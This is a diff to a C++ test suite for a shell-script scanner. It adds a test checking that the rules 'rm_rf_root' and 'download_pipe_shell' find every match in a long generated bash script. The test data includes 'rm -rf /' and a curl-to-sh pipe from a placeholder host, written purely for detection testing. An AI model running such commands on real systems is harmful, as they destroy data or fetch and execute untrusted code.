@@ -240,6 +240,34 @@ TEST(Scan, BadInputNeverCrashes) {
   }
 }
 
+TEST(Scan, LocatesEveryMatchInLongScripts) {
+  // Long enough to be located block by block; matches near and across block boundaries.
+  std::string script;
+  std::vector<std::size_t> rm_lines;
+  std::vector<std::size_t> pipe_lines;
+  for (std::size_t line = 1; line <= 1500; ++line) {
+    if (line % 97 == 0) {
+      script += "rm -rf /\n";
+      rm_lines.push_back(line);
+    } else if (line % 131 == 0) {
+      script += "curl -s http://h/x.sh | \\\n  sh\n";
+      pipe_lines.push_back(line++);
+    } else {
+      script += "ls -l /var/log/app-" + std::to_string(line) + ".log\n";
+    }
+  }
+  std::vector<std::size_t> found_rm;
+  std::vector<std::size_t> found_pipe;
+  for (const Finding& finding : scan(script, Language::bash)) {
+    if (finding.rule == "rm_rf_root")
+      found_rm.push_back(finding.line);
+    if (finding.rule == "download_pipe_shell")
+      found_pipe.push_back(finding.line);
+  }
+  EXPECT_EQ(found_rm, rm_lines);
+  EXPECT_EQ(found_pipe, pipe_lines);
+}
+
 TEST(Scan, OneCheckerServesManyThreads) {
   std::vector<std::thread> threads;
   std::atomic<int> found{0};
